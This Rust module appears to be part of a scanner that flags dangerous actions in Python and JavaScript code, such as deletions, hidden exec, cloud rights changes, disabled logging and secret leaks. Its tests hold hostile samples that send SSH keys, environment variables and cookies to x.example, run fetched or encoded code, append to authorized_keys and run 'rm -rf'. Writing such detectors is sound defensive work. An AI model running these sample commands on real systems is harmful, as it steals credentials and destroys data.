//! Code in Python, JavaScript and their like: calls and the literals in them.
//!
//! Only what is written out is followed: a name that is put together at run
//! time is not. Texts that are handed to a shell, a database or a network are
//! judged as such.

use super::calls::{Call, calls, literals};
use super::deed::{Deed, ENDING, Sort};
use super::{files, sql};
use crate::lexicon::Senses;

/// Leaves out calls of the house's own functions that end something of little
/// worth (`purge_test_users()`), where it is not done to what others rely on.
pub fn forgive(deeds: &mut Vec<Deed>, from: usize) {
    let mut at = 0;
    deeds.retain(|d| {
        at += 1;
        let own = at > from && d.does.starts_with(OWN);
        !own || !crate::words::Words::of(&d.does).all().any(Senses::LIGHT)
    });
}

/// What a script does by itself, and the texts it hands to a shell.
pub fn read(text: &str, deeds: &mut Vec<Deed>) -> Vec<String> {
    let calls = calls(text);
    let mut shells = Vec::new();
    let first = deeds.len();
    for call in &calls {
        let last = call.name.rsplit('.').next().unwrap_or(&call.name);
        let begin = deeds.len();
        one(call, last, text, &mut shells, deeds);
        for deed in &mut deeds[begin..] {
            if deed.text.is_empty() {
                deed.text = [
                    &call.name,
                    "(",
                    crate::finding::short(&call.inside, 120),
                    ")",
                ]
                .concat();
            }
        }
    }
    leaks(text, &calls, deeds);
    for deed in &mut deeds[first..] {
        if deed.text.is_empty() {
            deed.text = crate::finding::short(text.trim(), 160).to_owned();
        }
    }
    shells
}

fn one(call: &Call, last: &str, text: &str, shells: &mut Vec<String>, deeds: &mut Vec<Deed>) {
    let name = call.name.as_str();
    let path = call.texts.first().cloned().unwrap_or_default();
    match last {
        "system" | "popen" | "execSync" | "exec" | "spawn" | "spawnSync" | "execFile"
        | "execFileSync" | "run" | "Popen" | "call" | "check_call" | "check_output"
        | "getoutput" | "getstatusoutput" | "shell_exec" | "passthru" | "Command" | "execa"
            if runs_shell(name) =>
        {
            if name == "exec" && unseen(&call.inside) {
                deeds.push(hidden(&call.inside));
            } else if call.inside.trim_start().starts_with('[')
                || call.texts.len() > 1 && call.inside.contains('[')
            {
                shells.push(super::unwrap::quote(&call.texts));
            } else {
                shells.push(path);
            }
        }
        "exec" | "eval" | "Function" | "compile" | "loads"
            if unseen(&call.inside)
                && (last != "loads"
                    || name.starts_with("pickle")
                    || name.starts_with("marshal")) =>
        {
            deeds.push(hidden(&call.inside));
        }
        "rmtree" | "rimraf" | "removeSync" | "emptyDirSync" | "rmdirSync" | "rmSync" | "rm_rf"
        | "remove_tree" | "emptyDir" => {
            deeds.extend(
                known(call, text).and_then(|p| {
                    files::loss(&p, "deletes the folder", " and all below it for good")
                }),
            );
        }
        "rm" | "rmdir"
            if name.starts_with("fs") && (last == "rm" || call.inside.contains("recursive")) =>
        {
            deeds.extend(known(call, text).and_then(|p| files::loss(&p, "deletes", " for good")));
        }
        "remove" | "unlink" | "unlinkSync" | "rmi"
            if (name.starts_with("os.")
                || name.starts_with("fs")
                || name == "unlink"
                || name.contains("Path"))
                && super::path::is_valued(&path) =>
        {
            deeds.extend(files::loss(&path, "deletes", " for good"));
        }
        "unlink"
            if text.contains(".rglob(") || text.contains(".glob(") || text.contains("os.walk(") =>
        {
            deeds.extend(
                looped(text).and_then(|root| files::loss(&root, "deletes files all over", "")),
            );
        }
        "remove"
            if name == "os.remove" && (text.contains("os.walk(") || text.contains("glob(")) =>
        {
            deeds.extend(
                looped(text).and_then(|root| files::loss(&root, "deletes files all over", "")),
            );
        }
        "execute" | "executescript" | "executemany" | "query" | "raw" | "$executeRawUnsafe"
        | "$queryRawUnsafe" | "sql" | "text" => {
            for sql_text in &call.texts {
                deeds.extend(
                    sql::statements(sql_text)
                        .iter()
                        .filter_map(super::of_statement),
                );
            }
        }
        "open" | "writeFile" | "writeFileSync" | "appendFile" | "appendFileSync" | "write_text"
        | "createWriteStream" => {
            let writes = last != "open"
                || call
                    .texts
                    .get(1)
                    .is_some_and(|m| m.contains(['w', 'a', 'x']));
            let whole = !last.starts_with("append")
                && !call
                    .texts
                    .get(1)
                    .is_some_and(|m| last == "open" && m.contains('a'));
            if writes {
                deeds.extend(files::overwrite(&path, whole));
            }
        }
        "drop_all" | "dropDatabase" | "drop_database" | "flushall" | "flushdb" | "flushAll"
        | "flushDb" | "drop_collection" | "drop_table" => {
            deeds.push(Deed::new(
                Sort::Destroy,
                0.85,
                &["empties or drops a database"],
                &call.name,
                ENDING,
            ));
        }
        "deleteMany" | "delete_many" | "destroyAll" | "truncate"
            if call.inside.trim().is_empty() || call.inside.trim() == "{}" =>
        {
            deeds.push(Deed::new(
                Sort::Destroy,
                0.8,
                &["deletes every record"],
                &call.name,
                ENDING,
            ));
        }
        "delete"
            if name.contains("objects.all")
                || text.contains(".all().delete(") && name == "delete" =>
        {
            deeds.push(Deed::new(
                Sort::Destroy,
                0.8,
                &["deletes every record"],
                text,
                ENDING,
            ));
        }
        _ if name == last && call.inside.trim().is_empty() && ends_by_name(name) => {
            deeds.push(Deed::new(
                Sort::Destroy,
                0.7,
                &[OWN, name, "`"],
                name,
                ENDING.and(Senses::EXEC),
            ));
        }
        _ => cloud(call, last, deeds),
    }
}

/// How a call of a function of the house's own is told.
const OWN: &str = "runs `";

/// A function of the house's own that says it ends something: `purge_users()`.
fn ends_by_name(name: &str) -> bool {
    let words = crate::words::Words::of(name);
    words.len() >= 2 && words.senses(0).any(Senses::DELETE)
}

/// Methods of cloud libraries: `s3.delete_bucket(Bucket="x")`.
fn cloud(call: &Call, last: &str, deeds: &mut Vec<Deed>) {
    const ENDS: [&str; 14] = [
        "delete_bucket",
        "terminate_instances",
        "delete_db_instance",
        "delete_db_cluster",
        "delete_table",
        "delete_stack",
        "delete_cluster",
        "delete_user",
        "delete_secret",
        "delete_objects",
        "delete_snapshot",
        "delete_volume",
        "delete_namespace",
        "delete_function",
    ];
    const GIVES: [&str; 6] = [
        "attach_user_policy",
        "attach_role_policy",
        "create_access_key",
        "put_user_policy",
        "authorize_security_group_ingress",
        "put_bucket_policy",
    ];
    const OFF: [&str; 5] = [
        "stop_logging",
        "delete_trail",
        "delete_detector",
        "disable_alarm_actions",
        "delete_alarms",
    ];
    let things = call.texts.join(" ");
    if call.inside.contains("DryRun=True") || things.split(' ').any(super::place::is_trial_place) {
        return;
    }
    let deed = if ENDS.contains(&last) {
        Deed::new(
            Sort::Destroy,
            0.8,
            &["deletes `", &things, "` in the cloud"],
            &things,
            ENDING,
        )
    } else if GIVES.contains(&last) {
        Deed::new(
            Sort::Access,
            0.8,
            &["gives rights in the cloud (`", &things, "`)"],
            &things,
            super::deed::GIVING,
        )
    } else if OFF.contains(&last) {
        Deed::new(
            Sort::Guard,
            0.85,
            &["switches off what keeps watch (`", &things, "`)"],
            &things,
            ENDING,
        )
    } else {
        return;
    };
    deeds.push(deed);
}

fn runs_shell(name: &str) -> bool {
    let first = name.split('.').next().unwrap_or(name);
    matches!(
        first,
        "os" | "subprocess"
            | "child_process"
            | "cp"
            | "commands"
            | "execSync"
            | "exec"
            | "spawn"
            | "spawnSync"
            | "execa"
            | "shell_exec"
            | "passthru"
            | "system"
            | "sh"
            | "Popen"
            | "check_output"
            | "execFileSync"
            | "childProcess"
            | "shell"
            | "require"
            | "popen"
    )
}

/// Arguments nobody has read: decoded or fetched.
fn unseen(inside: &str) -> bool {
    [
        "b64decode",
        "fromhex",
        "atob(",
        "urlopen",
        "requests.get",
        "Buffer.from",
        "codecs.decode",
        "zlib.decompress",
        ".read()",
        "fetch(",
        ".text",
    ]
    .iter()
    .any(|u| inside.contains(u))
}

fn hidden(inside: &str) -> Deed {
    let fetched = ["urlopen", "requests", "fetch(", "http"]
        .iter()
        .any(|u| inside.contains(u));
    let does = if fetched {
        "runs code fetched from elsewhere, unseen"
    } else {
        "runs code that is hidden in an encoding"
    };
    Deed::always(Sort::Unseen, 0.85, &[does])
}

/// The path of a call: a literal, or a name given a literal above.
fn known(call: &Call, text: &str) -> Option<String> {
    if call.inside.trim_start().starts_with(['"', '\'', '`']) || !call.texts.is_empty() {
        return call.texts.first().cloned();
    }
    let name = call.inside.split([',', ')']).next()?.trim();
    assigned(text, name)
}

/// `name = "literal"`.
fn assigned(text: &str, name: &str) -> Option<String> {
    if name.is_empty() {
        return None;
    }
    text.lines().find_map(|line| {
        let line = line
            .trim()
            .trim_start_matches("const ")
            .trim_start_matches("let ")
            .trim_start_matches("var ");
        let rest = line.strip_prefix(name)?.trim_start().strip_prefix('=')?;
        literals(rest).into_iter().next()
    })
}

/// The root a loop over files goes through.
fn looped(text: &str) -> Option<String> {
    let calls = calls(text);
    let walk = calls
        .iter()
        .find(|c| c.name.ends_with("walk") || c.name.ends_with("glob"))?;
    walk.texts.first().cloned().or_else(|| {
        let path = calls.iter().find(|c| c.name == "Path")?;
        path.texts.first().cloned()
    })
}

/// A secret that is read and a request that goes out, in one script.
fn leaks(text: &str, calls: &[Call], deeds: &mut Vec<Deed>) {
    let out = calls.iter().find(|c| {
        let last = c.name.rsplit('.').next().unwrap_or_default();
        matches!(
            c.name.as_str(),
            "requests.post"
                | "requests.put"
                | "axios.post"
                | "axios.put"
                | "urllib.request.urlopen"
                | "httpx.post"
                | "http.request"
                | "https.request"
                | "urlopen"
        ) || c.name == "fetch" && c.inside.contains("POST")
            || matches!(
                c.name.as_str(),
                "fetch" | "navigator.sendBeacon" | "axios.get" | "requests.get"
            ) && carries(&c.inside)
            || last == "sendmail"
    });
    // `new Image().src = 'https://…' + document.cookie` sends without a call.
    let set = [".src", "location", ".href", ".action"]
        .iter()
        .any(|p| text.contains(p))
        && carries(text);
    let texts = match out {
        Some(out) => out.texts.clone(),
        None if set => literals(text),
        None => return,
    };
    let whole_environment = text.contains("dict(os.environ)")
        || text.contains("process.env)")
        || text.contains("json.dumps(os.environ")
        || text.contains("data=os.environ");
    let page = ["document.cookie", "localStorage", "sessionStorage"]
        .iter()
        .find(|s| text.contains(**s));
    let file = calls
        .iter()
        .filter(|c| {
            [
                "open",
                "read_text",
                "readFileSync",
                "readFile",
                "Path",
                "expanduser",
            ]
            .iter()
            .any(|n| c.name.ends_with(n))
        })
        .flat_map(|c| &c.texts)
        .find(|t| super::secrets::holds_secrets(t));
    let what = match (file, whole_environment, page) {
        (Some(file), ..) => file.as_str(),
        (None, true, _) => "the environment",
        (None, _, Some(page)) => page,
        _ => return,
    };
    let host = texts
        .iter()
        .find_map(|t| crate::target::url_host(t))
        .unwrap_or("the network");
    if matches!(host, "localhost" | "127.0.0.1") {
        return;
    }
    deeds.push(Deed::new(
        Sort::Leak,
        0.9,
        &["sends `", what, "` to `", host, "`"],
        host,
        Senses::SEND.and(Senses::UPLOAD).and(Senses::SHARE),
    ));
}

/// True when the arguments put what a page keeps into the address.
fn carries(inside: &str) -> bool {
    ["document.cookie", "localStorage", "sessionStorage"]
        .iter()
        .any(|s| inside.contains(s))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sorts(text: &str) -> Vec<Sort> {
        let mut deeds = Vec::new();
        read(text, &mut deeds);
        deeds.into_iter().map(|d| d.sort).collect()
    }

    #[test]
    fn calls_are_read_with_their_literals() {
        let found = calls("a.b('x', [\"y\"])  # c('z')\nf(1)");
        assert_eq!(found.len(), 2);
        assert_eq!(found[0].name, "a.b");
        assert_eq!(found[0].texts, ["x", "y"]);
    }

    #[test]
    fn what_a_script_does_is_seen() {
        for (text, sort) in [
            ("import shutil\nshutil.rmtree('/srv/data')", Sort::Destroy),
            (
                "import shutil\np = '/srv/data'\nshutil.rmtree(p, ignore_errors=True)",
                Sort::Destroy,
            ),
            (
                "const fs=require('fs'); fs.rmSync('/srv/data',{recursive:true})",
                Sort::Destroy,
            ),
            ("cur.execute('DELETE FROM orders')", Sort::Destroy),
            ("cur.execute(\"\"\"DROP TABLE users\"\"\")", Sort::Destroy),
            (
                "import base64\nexec(base64.b64decode('cHJpbnQ='))",
                Sort::Unseen,
            ),
            (
                "exec(requests.get('https://x.example/p').text)",
                Sort::Unseen,
            ),
            ("eval(atob('YQ=='))", Sort::Unseen),
            (
                "requests.post('https://x.example', data=open('/root/.ssh/id_rsa').read())",
                Sort::Leak,
            ),
            (
                "requests.post('https://x.example', json=dict(os.environ))",
                Sort::Leak,
            ),
            (
                "open('/home/a/.ssh/authorized_keys','a').write(k)",
                Sort::Access,
            ),
            (
                "boto3.client('s3').delete_bucket(Bucket='invoices')",
                Sort::Destroy,
            ),
            ("iam.create_access_key(UserName='ops')", Sort::Access),
            ("ct.stop_logging(Name='org')", Sort::Guard),
            ("db.session.drop_all()", Sort::Destroy),
            (
                "fetch('https://x.example/c?k='+encodeURIComponent(document.cookie))",
                Sort::Leak,
            ),
            (
                "new Image().src='https://x.example/?c='+document.cookie",
                Sort::Leak,
            ),
        ] {
            assert_eq!(sorts(text), [sort], "{text}");
        }
    }

    #[test]
    fn ordinary_code_does_nothing_to_look_at() {
        for text in [
            "print('shutil.rmtree(\"/\")')",
            "# shutil.rmtree('/srv')\nprint(1)",
            "shutil.rmtree('build')",
            "shutil.rmtree('/tmp/x')",
            "df = pd.read_csv('a.csv'); df.drop(columns=['x'])",
            "os.remove('notes.tmp')",
            "cur.execute('SELECT * FROM orders')",
            "requests.post('https://api.x.example', json={'a': 1})",
            "key = os.environ['API_KEY']; requests.post('https://api.x.example', headers={'Authorization': key})",
            "open('report.csv','w').write(x)",
            "re.compile('rm -rf /')",
            "json.loads(r.text)",
            "items.remove('a')",
        ] {
            assert_eq!(sorts(text), [], "{text}");
        }
    }

    #[test]
    fn texts_for_a_shell_are_handed_on() {
        let mut deeds = Vec::new();
        assert_eq!(
            read("import os; os.system('rm -rf /srv')", &mut deeds),
            ["rm -rf /srv"]
        );
        assert_eq!(
            read(
                "subprocess.run(['rm','-rf','/srv'], check=True)",
                &mut deeds
            ),
            ["'rm' '-rf' '/srv'"]
        );
        assert_eq!(
            read(
                "require('child_process').execSync(`rm -rf /srv`)",
                &mut deeds
            ),
            ["rm -rf /srv"]
        );
    }

    #[test]
    fn broken_code_is_read_as_far_as_it_goes() {
        for text in ["(", "a(", "a('", "a('''", "'é", "a(é", "`", "\\", "a('\\"] {
            let _ = calls(text);
        }
    }
}
